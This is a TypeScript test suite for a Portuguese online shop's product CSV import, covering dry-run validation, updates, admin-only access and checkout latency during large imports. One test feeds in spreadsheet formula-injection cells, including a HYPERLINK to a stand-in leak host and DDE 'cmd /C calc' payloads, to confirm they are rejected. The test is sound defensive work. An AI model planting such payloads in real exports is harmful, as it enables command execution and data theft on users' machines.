import { eq, sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { catalogMessages } from '#shared/schemas/catalog.ts';
import { importMessages, type ProductImportResult } from '#shared/schemas/exports.ts';
import { signedInUser, useTestApp } from '../../../../tests/helpers/app.ts';
import { insertProduct, shippingDetails } from '../../../../tests/helpers/shop.ts';
import { products, productVariants } from '../../db/schema.ts';

// Importing products from the export's CSV (issue #17): a dry run lists each line's problems, the import
// runs in one transaction.

const ctx = useTestApp();
const HEADER = 'ID;Nome;Descrição;Tipo;Variante;SKU;Preço com IVA;Stock;Ordem;Link de acesso;Estado';
const csv = (...lines: string[]) => `\uFEFF${[HEADER, ...lines].join('\r\n')}\r\n`;

async function send(cookie: string, file: string, dryRun: boolean) {
  const res = await ctx.app.inject({ method: 'POST', url: '/api/product/import', headers: { cookie }, payload: { csv: file, dryRun } });
  return { status: res.statusCode, body: res.json<ProductImportResult & { error?: string }>() };
}

const named = (name: string) => ctx.database.db.select().from(products).where(eq(products.name, name));

describe('product import', () => {
  it('checks a file from another shop without changing anything, then imports it whole', async () => {
    const { cookie } = await signedInUser(ctx, { isAdmin: true });
    const file = csv(
      ';Caixa de cartão;Caixa forte com tampa.;Físico;;;12,50;8;3;;À venda',
      ';Guia da despensa;Guia em PDF.;Digital;;;7,90;0;4;https://example.pt/guia;À venda',
      ';Cabides de veludo;"Cabides finos; não escorregam.";Físico;Pack de 10;CAB-10;15,00;5;5;;À venda',
      ';Cabides de veludo;"Cabides finos; não escorregam.";Físico;Pack de 20;CAB-20;26,00;2;5;;À venda',
      ';Produto antigo;Já não se vende.;Físico;;;1,00;0;9;;Arquivado',
    );
    const check = await send(cookie, file, true);
    expect(check.status).toBe(200);
    expect(check.body).toMatchObject({ dryRun: true, imported: false, lines: 5, creates: 3, updates: 0, skipped: 1, problems: [] });
    expect(check.body.message).toBe('Tudo certo: 3 a criar e 0 a atualizar. Nada foi alterado ainda.');
    expect(await named('Caixa de cartão')).toHaveLength(0);

    const run = await send(cookie, file, false);
    expect(run.body).toMatchObject({ imported: true, creates: 3, message: 'Importação concluída: 3 criados e 0 atualizados.' });
    const [box] = await named('Caixa de cartão');
    expect(box).toMatchObject({ priceCents: 1250, stock: 8, displayOrder: 3, isDigital: false });
    const [guide] = await named('Guia da despensa');
    expect(guide).toMatchObject({ isDigital: true, link: 'https://example.pt/guia' });
    const [hangers] = await named('Cabides de veludo');
    expect(hangers?.description).toBe('Cabides finos; não escorregam.');
    const variants = await ctx.database.db.select().from(productVariants).where(eq(productVariants.productId, hangers?.id ?? 0));
    expect(variants.map((v) => [v.name, v.sku, v.priceCents, v.stock])).toEqual([
      ['Pack de 10', 'CAB-10', 1500, 5],
      ['Pack de 20', 'CAB-20', 2600, 2],
    ]);
    expect(await named('Produto antigo')).toHaveLength(0);
  });

  it('updates the products its IDs name, keeping their variants as the same rows (the export read back)', async () => {
    const { cookie } = await signedInUser(ctx, { isAdmin: true });
    const jar = await insertProduct(ctx, { name: 'Frasco hermético', description: 'Vidro.', priceCents: 450, stock: 3 });
    const set = await insertProduct(ctx, { name: 'Etiquetas', description: 'Papel.', variants: [{ name: 'Brancas', priceCents: 300, stock: 4, sku: 'ET-B' }] });
    const exported = (await ctx.app.inject({ method: 'GET', url: '/api/product/export.csv', headers: { cookie } })).body;
    const same = await send(cookie, exported, true);
    expect(same.body.problems).toEqual([]);
    expect(same.body.updates).toBeGreaterThanOrEqual(2);

    const file = csv(`${jar.id};Frasco hermético;Vidro.;Físico;;;5,20;3;0;;À venda`, `${set.id};Etiquetas;Papel.;Físico;Brancas;ET-B;3,00;9;0;;À venda`);
    const run = await send(cookie, file, false);
    expect(run.body).toMatchObject({ imported: true, updates: 2, creates: 0 });
    expect((await named('Frasco hermético'))[0]?.priceCents).toBe(520);
    const [white] = await ctx.database.db.select().from(productVariants).where(eq(productVariants.productId, set.id));
    expect(white).toMatchObject({ id: set.variantRows[0]?.id, stock: 9 });
  });

  it("lists each line's problems in pt-PT and imports nothing while there is one", async () => {
    const { cookie } = await signedInUser(ctx, { isAdmin: true });
    const taken = await insertProduct(ctx, { name: 'Com SKU', variants: [{ name: 'Única', priceCents: 100, stock: 1, sku: 'JA-EXISTE' }] });
    const file = csv(
      ';Boa;Está certa.;Físico;;;2,00;1;0;;',
      ';Sem preço;Falta o preço.;Físico;;;;1;0;;',
      ';Sem descrição;;Físico;;;2,00;1;0;;',
      ';Serviço;Não é produto.;Serviço;;;2,00;1;0;;',
      '999999;Desconhecido;Não existe.;Físico;;;2,00;1;0;;',
      ';Digital sem link;PDF.;Digital;;;2,00;0;0;;',
      ';Repetido;SKU de outro.;Físico;Azul;JA-EXISTE;2,00;1;0;;',
    );
    const check = await send(cookie, file, true);
    expect(check.status).toBe(200);
    expect(check.body.problems).toEqual([
      { line: 3, message: catalogMessages.priceRequired },
      { line: 4, message: catalogMessages.descriptionRequired },
      { line: 5, message: importMessages.type },
      { line: 6, message: 'não existe nenhum produto com o ID 999999; deixe o ID vazio para o criar.' },
      { line: 7, message: catalogMessages.linkRequired },
      { line: 8, message: `${catalogMessages.skuTaken} (JA-EXISTE)` },
    ]);
    expect(check.body.message).toBe(importMessages.problems);
    const run = await send(cookie, file, false);
    expect(run.body).toMatchObject({ imported: false, creates: 1 });
    expect(await named('Boa')).toHaveLength(0);
    expect(taken.id).toBeGreaterThan(0);
  });

  it('refuses a cell a spreadsheet would run as a formula, naming its line and column, and reads the export’s neutralised cells back (issue #26)', async () => {
    const { cookie } = await signedInUser(ctx, { isAdmin: true });
    const file = csv(
      ';"=HYPERLINK(""http://evil.example/leak"";""Ver"")";Caixa.;Físico;;;2,00;1;0;;',
      ';Caixa boa;@SUM(1+1)*cmd|\' /C calc\'!A0;Físico;;;2,00;1;0;;',
      ';Caixa com desconto;Caixa.;Físico;"-2+3+cmd|\' /C calc\'!A0";;2,00;1;0;;',
    );
    const check = await send(cookie, file, true);
    expect(check.status).toBe(200);
    const formula = (column: string, sign: string) => `a coluna «${column}» começa por «${sign}», que uma folha de cálculo lê como fórmula; retire-o, ou escreva um apóstrofo (') antes dele.`;
    expect(check.body.problems).toEqual([
      { line: 2, message: formula('Nome', '=') },
      { line: 3, message: formula('Descrição', '@') },
      { line: 4, message: formula('Variante', '-') },
    ]);
    expect((await send(cookie, file, false)).body.imported).toBe(false);
    expect(await named('Caixa boa')).toHaveLength(0);

    // A product named like a formula by the admin's form goes out neutralised and comes back as it was.
    await insertProduct(ctx, { name: '=Caixa+Tampa', description: '-Forte, com tampa.', priceCents: 450, stock: 3 });
    const exported = (await ctx.app.inject({ method: 'GET', url: '/api/product/export.csv', headers: { cookie } })).body;
    expect(exported).toContain(`"'=Caixa+Tampa";"'-Forte, com tampa."`);
    const back = await send(cookie, exported, false);
    expect(back.body).toMatchObject({ imported: true, problems: [] });
    const [box] = await named('=Caixa+Tampa');
    expect(box?.description).toBe('-Forte, com tampa.');
  });

  it('refuses what is not the export’s CSV, and is for admins only', async () => {
    const { cookie } = await signedInUser(ctx, { isAdmin: true });
    const noStock = await send(cookie, 'Nome;Descrição;Tipo;Preço com IVA\nCaixa;Caixa.;Físico;2,00\n', true);
    expect(noStock.status).toBe(400);
    expect(noStock.body.error).toBe('Falta a coluna «Stock» na primeira linha (use os nomes das colunas da exportação).');
    const broken = await send(cookie, `${HEADER}\n;"Caixa;Caixa.;Físico;;;2,00;1;0;;\n`, true);
    expect(broken.status).toBe(400);
    expect(broken.body.error).toMatch(/^Não foi possível ler o ficheiro como CSV: /);
    expect((await send(cookie, HEADER, true)).body.error).toBe(importMessages.empty);
    const customer = await signedInUser(ctx);
    expect((await send(customer.cookie, csv(';A;B;Físico;;;1,00;1;0;;'), true)).status).toBe(403);
  });

  describe('a file of 5,000 lines (issue #26: a checkout of a last unit waited 15.75 s behind one)', () => {
    const big = (tag: string, broken = false) =>
      csv(...Array.from({ length: 5000 }, (_, i) => (broken && i === 4999 ? `;Caixa ${tag} sem preço;Falta.;Físico;;;;1;0;;` : `;Caixa ${tag} n.º ${i + 1};Caixa de cartão.;Físico;;;${5 + (i % 20)},50;${(i % 9) + 1};0;;`)));

    /** A guest buying the last unit of a product: it sells out, which writes the catalogue's version. */
    async function buyLastUnit() {
      const product = await insertProduct(ctx, { name: 'Última caixa', stock: 1 });
      const items = [{ product_id: product.id, quantity: 1 }];
      const started = performance.now();
      const totals = (await ctx.app.inject({ method: 'POST', url: '/api/order/calculate-totals', payload: { items } })).json();
      const res = await ctx.app.inject({
        method: 'POST',
        url: '/api/order',
        payload: { items, ...shippingDetails, payment_method: 'multibanco', shipping_cost: totals.shippingCost, total_price_without_tax: totals.totalPriceWithoutTax, total_tax: totals.totalTax, total_price_with_tax: totals.totalWithTax },
      });
      return { status: res.statusCode, ms: performance.now() - started };
    }

    /** The import, with one guest after another buying another product's last unit until it answers. */
    async function importWhileSelling(cookie: string, file: string, dryRun: boolean) {
      let done = false;
      const importing = send(cookie, file, dryRun).finally(() => (done = true));
      const checkouts: { status: number; ms: number }[] = [];
      while (!done) checkouts.push(await buyLastUnit());
      return { result: await importing, checkouts };
    }

    it('lets checkouts through within a second during its dry run and during the import itself', async () => {
      const { cookie } = await signedInUser(ctx, { isAdmin: true });
      // Checkouts alone first: what is measured below is the wait behind the import, beyond the slowest of them.
      const alone = [];
      for (let i = 0; i < 3; i++) alone.push((await buyLastUnit()).ms);
      const own = Math.max(...alone);
      const check = await importWhileSelling(cookie, big('A'), true);
      expect(check.result.body).toMatchObject({ dryRun: true, imported: false, creates: 5000, problems: [] });
      expect(check.checkouts.length).toBeGreaterThan(0);
      for (const checkout of check.checkouts) expect(checkout.status).toBe(201);
      expect(Math.max(...check.checkouts.map((c) => c.ms)) - own, 'longest wait of a checkout during the dry run (ms)').toBeLessThan(1000);
      expect(await named('Caixa A n.º 1')).toHaveLength(0);

      const run = await importWhileSelling(cookie, big('B'), false);
      expect(run.result.body).toMatchObject({ imported: true, creates: 5000 });
      for (const checkout of run.checkouts) expect(checkout.status).toBe(201);
      expect(Math.max(...run.checkouts.map((c) => c.ms)) - own, 'longest wait of a checkout during the import (ms)').toBeLessThan(1000);
      expect(await named('Caixa B n.º 5000')).toHaveLength(1);
    }, 120_000);

    it('uses up no product ids when it is refused', async () => {
      const { cookie } = await signedInUser(ctx, { isAdmin: true });
      const nextId = async () => {
        const result = (await ctx.database.db.execute(sql`SELECT last_value, is_called FROM products_id_seq`)) as unknown as { rows: { last_value: string | number; is_called: boolean }[] };
        const row = result.rows[0];
        return Number(row?.last_value) + (row?.is_called ? 1 : 0);
      };
      const before = await nextId();
      const refused = await send(cookie, big('C', true), false);
      expect(refused.body).toMatchObject({ imported: false, problems: [{ line: 5001, message: catalogMessages.priceRequired }] });
      expect(await nextId()).toBe(before);
      expect(await named('Caixa C n.º 1')).toHaveLength(0);
    }, 60_000);
  });
});
